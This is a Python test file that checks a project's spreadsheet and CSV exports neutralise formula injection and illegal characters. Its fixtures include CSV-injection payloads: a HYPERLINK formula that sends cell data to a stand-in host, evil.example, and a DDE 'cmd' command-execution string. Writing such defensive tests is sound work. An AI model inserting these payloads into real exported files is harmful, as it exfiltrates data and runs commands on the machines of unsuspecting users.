"""Names and titles in the matrix .csv/.xlsx and evidence.csv never run as a formula or crash."""

import csv
import io
import shutil
import unicodedata
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from digifelt.core.services.matrix import Cell, Matrix, MatrixRow, evidence_matrix
from digifelt.exports.bundle.csv import evidence_csv
from digifelt.exports.cells import FORMULA_START, safe_cell, safe_text, storable
from digifelt.exports.matrix import write_matrix

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&C2&C3,"Ledere")', "=1+1", "+47 123",
           "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1",
           "﹦1", "=cmd|' /C calc'!A0", "Ledere\x0bmøte", "\x0b=1", "\x00=1", "a\x07b",
           "\ufffe\uffff", "lone \ud800 surrogate", "\udfff", "'=already", "", " =1"]
DANGEROUS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦",
                             "\x0b", "\x0c", "\x00", "\x1f", "\ufffe", "\ud83d", " ", "'"])
TEXT = st.one_of(st.sampled_from(HOSTILE),
                 st.lists(st.one_of(DANGEROUS, st.text(max_size=4)), max_size=6).map("".join))
XML_ILLEGAL = {chr(c) for c in range(0x20) if c not in (9, 10, 13)} | {"\ufffe", "\uffff"}


def runs_as_formula(text: str) -> bool:
    return bool(text) and unicodedata.normalize("NFKC", text[0])[:1] in FORMULA_START


def matrix_of(group_names: list[str], codes: list[str], titles: list[str]) -> Matrix:
    columns = [(f"g{n}", name) for n, name in enumerate(group_names)]
    rows = [MatrixRow(indicator_id=f"i{n}", code=code, title=title, area_id="a",
                      area_code=code[:2], area_title=title,
                      cells={"g0": Cell(total=n + 1, strengths=n)} if columns else {},
                      total=Cell(total=n + 1, strengths=n, gaps=1))
            for n, (code, title) in enumerate(zip(codes, titles, strict=False))]
    return Matrix(by="group", columns=columns, rows=rows)


def assert_xlsx_is_inert(path):
    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not runs_as_formula(cell.value), cell.value
                assert not XML_ILLEGAL & set(cell.value)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name)
                assert b"<f>" not in xml
                assert b"<f " not in xml
    return sheet


def csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_text_is_never_a_formula_and_always_storable(text):
    safe = safe_text(text)
    assert not runs_as_formula(safe)
    assert not XML_ILLEGAL & set(safe)
    safe.encode("utf-8")  # no lone surrogate left
    if text and not runs_as_formula(storable(text)):
        assert safe == storable(text)  # nothing added where no guard applies


def test_word_line_breaks_stay_line_breaks_and_plain_text_is_untouched():
    assert safe_text("Ledere\x0bmøte") == "Ledere\nmøte"
    assert safe_text("Åse, «leder»; 1.2") == "Åse, «leder»; 1.2"
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("＝1+1") == "'＝1+1"
    assert [safe_cell(3), safe_cell(None), safe_cell(2.5)] == [3, None, 2.5]


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(groups=st.lists(TEXT, min_size=1, max_size=4), codes=st.lists(TEXT, max_size=4),
       titles=st.lists(TEXT, max_size=4))
def test_matrix_export_is_inert_whatever_the_names(tmp_path, groups, codes, titles):
    m = matrix_of(groups, codes, titles)
    xlsx = write_matrix(m, tmp_path / "m.xlsx", lang="en")
    sheet = assert_xlsx_is_inert(xlsx)
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    for line, row in zip(values[2:] if m.rows else [], m.rows, strict=True):  # under the area
        # counts stay numbers a spreadsheet can add up
        assert line[1] == (row.cells["g0"].total if "g0" in row.cells else 0)
        assert isinstance(line[-2], int)
    out = write_matrix(m, tmp_path / "m.csv", lang="en")
    rows = csv_rows(out)
    assert len(rows) == 1 + len(m.rows)
    for row in rows:
        for cell in row:
            assert not runs_as_formula(cell), cell
    assert rows[0][3:3 + len(groups)] == [safe_text(g) for g in groups]


def test_the_reviewed_formula_group_is_text_in_both_files(tmp_path):
    name = '=HYPERLINK("http://evil.example/?d="&C2&C3,"Ledere")'
    m = matrix_of([name, "Ledere\x0bmøte"], ["1.1"], ["Strategi"])
    sheet = assert_xlsx_is_inert(write_matrix(m, tmp_path / "m.xlsx"))
    assert sheet["B1"].value == "'" + name
    assert sheet["B1"].data_type == "s"
    assert sheet["C1"].value == "Ledere\nmøte"
    assert csv_rows(write_matrix(m, tmp_path / "m.csv"))[0][3] == "'" + name


def test_a_teammates_formula_group_is_inert_after_merge(tmp_path, project):
    """A bundle brings a group named as a formula; the lead's matrix keeps it as text."""
    from digifelt.core.services import activities, entries, excerpts, people, rubric
    from digifelt.exports.bundle import apply_import, export_bundle
    from digifelt.storage.database import open_database

    name = '=HYPERLINK("http://evil.example/?d="&C2&C3,"Ledere")'
    project.close()
    lead, mate = tmp_path / "lead.digifelt", tmp_path / "mate.digifelt"
    shutil.copy(project.path, lead)
    shutil.copy(project.path, mate)
    db = open_database(mate, backup=False)
    group = people.add_group(db, name=name)
    act = activities.add_activity(db, kind="interview", title="-Intervju", group_ids=[group.id])
    entry = entries.add_entry(db, activity_id=act.id, text="Vi har en plan.")
    excerpts.tag_excerpt(db, entry_id=entry.id, start=0, end=6,
                         indicator_ids=[rubric.rubric_tree(db)[0].indicators[0].id])
    db.close()
    bundle = tmp_path / "mate.zip"
    export_bundle(mate, bundle)
    with zipfile.ZipFile(bundle) as zf:
        evidence = next(n for n in zf.namelist() if n.endswith("data/evidence.csv"))
        rows = list(csv.reader(io.StringIO(zf.read(evidence).decode("utf-8-sig"))))
    assert all(not runs_as_formula(cell) for row in rows for cell in row)
    assert any(row[9] == "'" + name for row in rows[1:])
    apply_import(lead, bundle)
    db = open_database(lead, backup=False)
    try:
        assert name in [g.name for g in people.list_groups(db)]
        matrix = evidence_matrix(db, by="group")
    finally:
        db.close()
    sheet = assert_xlsx_is_inert(write_matrix(matrix, tmp_path / "lead.xlsx"))
    header = [c.value for c in sheet[1]]
    assert "'" + name in header
    assert name not in header
    rows = csv_rows(write_matrix(matrix, tmp_path / "lead.csv"))
    assert "'" + name in rows[0]


def test_evidence_csv_guards_every_free_text_cell():
    texts = ["=1+1", "＠x", "\x0b=2", "ok", "a\x00b", "\ud800"]
    document = {
        "rubric": {"areas": [{"indicators": [{"id": "i1", "code": "-1", "title": "+t"}]}]},
        "groups": [{"id": "g1", "name": "=g"}],
        "activities": [{"id": "a1", "kind": "interview", "title": "@a",
                        "started_at": "2024-05-01T10:00:00Z", "group_ids": ["g1"],
                        "entries": []}],
        "excerpts": [{"id": f"x{n}", "activity_id": "a1", "text": t, "kind": "quote",
                      "valence": "gap", "starred": False, "page": None,
                      "indicator_ids": ["i1"]} for n, t in enumerate(texts)],
    }
    rows = list(csv.reader(io.StringIO(evidence_csv(document).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(runs_as_formula(c) for c in cells)
    assert not any(XML_ILLEGAL & set(c) for c in cells)
    assert [r[2] for r in rows[1:]] == ["'=1+1", "'＠x", "'\n=2", "ok", "ab", "\ufffd"]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_text_no_guard_applies_to_is_left_exactly_as_it_was(text):
    """evidence.csv stays byte-identical for ordinary text: the guard only ever adds a `'`
    before a formula start and removes what XML cannot hold."""
    safe = safe_text(text)
    if storable(text) == text and not runs_as_formula(text):
        assert safe == text
    else:
        assert safe.lstrip("'") == storable(text).lstrip("'") or safe == "'" + storable(text)
